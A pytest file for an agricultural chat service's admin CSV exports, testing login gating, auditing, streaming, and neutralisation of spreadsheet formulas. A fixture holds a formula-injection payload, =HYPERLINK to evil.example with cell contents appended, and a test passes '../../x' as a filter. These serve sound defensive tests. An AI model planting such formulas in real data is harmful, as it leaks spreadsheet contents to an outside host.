"""The panel's CSV exports over a real server: for logged-in admins only, audited, downloaded as
dated attachments, and read back by Python's csv module as exactly the stored data, with any
cell a spreadsheet would run made inert."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
import sqlalchemy as sa
from structlog.testing import capture_logs

from agrochat.actors.session import load_form
from agrochat.persistence import AlertStore, MessageStore, OutboxStore, ProducerStore
from tests.admin.conftest import Browser, Panel

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2, "Ver más")'
EXPORTS = (
    "/admin/exports/producers.csv",
    "/admin/exports/alerts.csv",
    "/admin/exports/producers/{id}/conversation.csv",
)


def read_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_attachment(response: httpx.Response, prefix: str) -> None:
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = response.headers["content-disposition"]
    found = re.fullmatch(
        rf'attachment; filename="{prefix}-(\d{{4}}-\d{{2}}-\d{{2}})\.csv"', disposition
    )
    assert found, disposition
    assert dt.date.fromisoformat(found.group(1))
    # Streamed: no length known in advance.
    assert "content-length" not in response.headers


@pytest.fixture
def rosa(panel: Panel) -> int:
    store = ProducerStore(panel.db)
    producer, _ = store.get_or_create("51987654321")
    store.set_fields(
        producer.id,
        {"nombre": "Rosa Quispe", "cultivo": "maíz", "area_ha": "2.5", "distrito": "Huancayo"},
        source="model",
    )
    store.update(producer.id, name="Rosa Quispe", status="activo")
    return producer.id


@pytest.mark.parametrize("path", EXPORTS)
def test_an_export_needs_a_logged_in_admin(panel: Panel, rosa: int, path: str) -> None:
    with panel.client() as client:
        response = client.get(path.format(id=rosa))
    assert response.status_code == 303
    assert "/admin/login?next=" in response.headers["location"]
    assert "Rosa" not in response.text
    assert [r.action for r in panel.audit_rows()] == []


def test_producers_export_has_one_column_per_profile_field_and_the_stored_values(
    panel: Panel, browser: Browser, rosa: int
) -> None:
    pedro, _ = ProducerStore(panel.db).get_or_create("51911111111")

    response = browser.get("/admin/exports/producers.csv")

    assert_attachment(response, "productores")
    rows = read_csv(response)
    names = list(load_form("perfil").names)
    assert list(rows[0]) == [
        "id",
        "teléfono",
        "estado",
        "espera a una persona",
        "registrado",
        "último mensaje",
        *names,
    ]
    assert [r["id"] for r in rows] == [str(rosa), str(pedro.id)]
    assert {k: rows[0][k] for k in ("teléfono", "estado", "nombre", "cultivo", "area_ha")} == {
        "teléfono": "51987654321",
        "estado": "Activo",
        "nombre": "Rosa Quispe",
        "cultivo": "maíz",
        "area_ha": "2.5",
    }
    assert rows[1]["nombre"] == "" and rows[1]["estado"] == "Nuevo (registro en curso)"
    [entry] = [r for r in panel.audit_rows() if r.action.startswith("export.")]
    assert (entry.actor, entry.action) == ("admin:ana", "export.producers")


def test_a_producer_named_like_a_formula_comes_back_inert(panel: Panel, browser: Browser) -> None:
    store = ProducerStore(panel.db)
    producer, _ = store.get_or_create("51922222222")
    store.set_fields(producer.id, {"nombre": HYPERLINK, "variedad": "@SUM(A1:A9)"}, source="admin")

    [row] = read_csv(browser.get("/admin/exports/producers.csv"))

    assert row["nombre"] == "'" + HYPERLINK
    assert row["variedad"] == "'@SUM(A1:A9)"
    assert row["teléfono"] == "51922222222"


def test_producers_export_filters_by_status_and_names_the_file_after_it(
    panel: Panel, browser: Browser, rosa: int
) -> None:
    ProducerStore(panel.db).get_or_create("51911111111")
    response = browser.get("/admin/exports/producers.csv?estado=activo")
    assert_attachment(response, "productores-activo")
    assert [r["id"] for r in read_csv(response)] == [str(rosa)]
    # An unknown status is no filter (and never reaches the file name).
    response = browser.get("/admin/exports/producers.csv?estado=../../x")
    assert_attachment(response, "productores")
    assert len(read_csv(response)) == 2


def test_conversation_export_lists_every_message_in_order_with_its_delivery(
    panel: Panel, browser: Browser, rosa: int
) -> None:
    messages, outbox = MessageStore(panel.db), OutboxStore(panel.db)
    question = messages.add_inbound(rosa, "¿Cuándo riego?\nEl suelo está seco, ¿no?")
    reply = messages.record_reply(question.id, "Riega al atardecer, 20 minutos.", status="answered")
    queued = outbox.enqueue("51987654321", reply.text, reply_to_id=reply.id)
    assert queued is not None
    outbox.mark_sent(queued, "wamid.r1")
    outbox.record_delivery("wamid.r1", "read")
    messages.add_inbound(rosa, "-_- no entiendo")
    messages.add_outbound(rosa, "Te llamo en un momento.", author="admin:ana")
    other, _ = ProducerStore(panel.db).get_or_create("51911111111")
    messages.add_inbound(other.id, "mensaje de otro productor")

    response = browser.get(f"/admin/exports/producers/{rosa}/conversation.csv")

    assert_attachment(response, "conversacion-51987654321")
    rows = read_csv(response)
    assert [(r["dirección"], r["autor"], r["texto"], r["estado"], r["entrega"]) for r in rows] == [
        ("recibido", "productor", "¿Cuándo riego?\nEl suelo está seco, ¿no?", "respondido", ""),
        ("enviado", "agrochat", "Riega al atardecer, 20 minutos.", "", "leído"),
        ("recibido", "productor", "'-_- no entiendo", "sin responder aún", ""),
        ("enviado", "ana", "Te llamo en un momento.", "", ""),
    ]
    hour = next(k for k in rows[0] if k.startswith("hora"))
    assert hour == "hora (America/Lima)"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", rows[0][hour])
    [entry] = [r for r in panel.audit_rows() if r.action.startswith("export.")]
    assert (entry.action, entry.target) == ("export.conversation", f"producer:{rosa}")


def test_conversation_export_of_an_unknown_producer_is_a_404_page_and_not_audited(
    panel: Panel, browser: Browser
) -> None:
    for producer_id in (4242, 2**40):
        response = browser.get(f"/admin/exports/producers/{producer_id}/conversation.csv")
        assert response.status_code == 404
        assert response.headers["content-type"].startswith("text/html")
        assert "content-disposition" not in response.headers
    assert not [r for r in panel.audit_rows() if r.action.startswith("export.")]


def test_alerts_export_has_every_alert_with_its_delivery_status(
    panel: Panel, browser: Browser, rosa: int
) -> None:
    alerts, outbox = AlertStore(panel.db), OutboxStore(panel.db)
    sent = alerts.create(
        phone="51987654321", message="Helada esta noche", level="alta", source="admin"
    )
    waiting = alerts.create(
        phone="51955555555", message="+ riego mañana", level="baja", source="api"
    )
    queued = outbox.enqueue("51987654321", "Helada esta noche", alert_id=sent)
    assert queued is not None
    outbox.mark_sent(queued, "wamid.a1")
    outbox.record_delivery("wamid.a1", "delivered")
    alerts.mark_sent(sent)

    response = browser.get("/admin/exports/alerts.csv")

    assert_attachment(response, "alertas")
    rows = read_csv(response)
    assert [
        (
            r["id"],
            r["productor"],
            r["teléfono"],
            r["nivel"],
            r["mensaje"],
            r["estado"],
            r["entrega"],
        )
        for r in rows
    ] == [
        (
            str(sent),
            "Rosa Quispe",
            "51987654321",
            "alta",
            "Helada esta noche",
            "Enviada",
            "entregado",
        ),
        (str(waiting), "", "51955555555", "baja", "'+ riego mañana", "Pendiente", ""),
    ]
    assert rows[0]["enviada (America/Lima)"] and not rows[1]["enviada (America/Lima)"]
    only_pending = read_csv(browser.get("/admin/exports/alerts.csv?estado=pending"))
    assert [r["id"] for r in only_pending] == [str(waiting)]
    actions = [r.action for r in panel.audit_rows() if r.action.startswith("export.")]
    assert actions == ["export.alerts", "export.alerts"]


def test_a_large_export_arrives_whole_in_many_batches(panel: Panel, browser: Browser) -> None:
    store = ProducerStore(panel.db)
    count = 1234  # more than two of the stores' batches
    with panel.db.tx():
        for i in range(count):
            producer, _ = store.get_or_create(f"5190{i:07d}")
            store.set_fields(producer.id, {"cultivo": "papa"}, source="admin")
    with browser.http.stream("GET", "/admin/exports/producers.csv") as response:
        assert response.headers.get("transfer-encoding") == "chunked"
        body = b"".join(response.iter_bytes())
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert len(rows) == count
    assert {r["cultivo"] for r in rows} == {"papa"}
    assert len({r["id"] for r in rows}) == count


def test_the_lists_link_to_their_exports(panel: Panel, browser: Browser, rosa: int) -> None:
    assert 'href="/admin/exports/producers.csv"' in browser.get("/admin/producers").text
    assert (
        'href="/admin/exports/producers.csv?estado=activo"'
        in browser.get("/admin/producers?estado=activo").text
    )
    page = browser.get(f"/admin/producers/{rosa}").text
    assert f'href="/admin/exports/producers/{rosa}/conversation.csv"' in page
    assert 'href="/admin/exports/alerts.csv"' in browser.get("/admin/alerts").text
    assert (
        'href="/admin/exports/alerts.csv?estado=failed"'
        in browser.get("/admin/alerts?estado=failed").text
    )


def test_an_export_that_fails_half_way_breaks_the_download_instead_of_ending_short(
    panel: Panel, browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Once the headers are out there is no error page to send: the connection is broken, so
    the browser reports a failed download rather than keeping a file that looks complete."""
    store = ProducerStore(panel.db)
    for i in range(3):
        store.get_or_create(f"5190000000{i}")
    real = ProducerStore.profile_batches

    def database_gone_after_one_batch(self: ProducerStore, **kwargs: Any) -> Iterator[Any]:
        pages = real(self, **{**kwargs, "size": 1})
        yield next(pages)
        raise sa.exc.OperationalError("SELECT ...", {}, Exception("database is locked"))

    monkeypatch.setattr(ProducerStore, "profile_batches", database_gone_after_one_batch)
    with (
        capture_logs() as logs,
        pytest.raises(httpx.RemoteProtocolError),
        browser.http.stream("GET", "/admin/exports/producers.csv") as response,
    ):
        assert response.status_code == 200
        b"".join(response.iter_bytes())
    assert [e["event"] for e in logs if e["log_level"] == "error"] == ["export failed half-way"]
